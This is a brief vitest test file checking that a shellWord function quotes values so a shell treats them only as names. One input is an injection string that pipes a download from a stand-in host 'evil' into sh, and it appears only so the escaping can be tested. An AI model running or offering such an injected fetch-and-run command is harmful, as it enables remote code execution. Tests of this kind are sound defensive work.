import { expect, test } from "vitest";
import { shellWord } from "./shell";

test("a name does nothing in a shell but name", () => {
  expect(shellWord("nightly-42")).toBe("nightly-42");
  expect(shellWord("x; curl evil | sh")).toBe("'x; curl evil | sh'");
  expect(shellWord("it's")).toBe("'it'\\''s'");
  expect(shellWord("")).toBe("''");
});
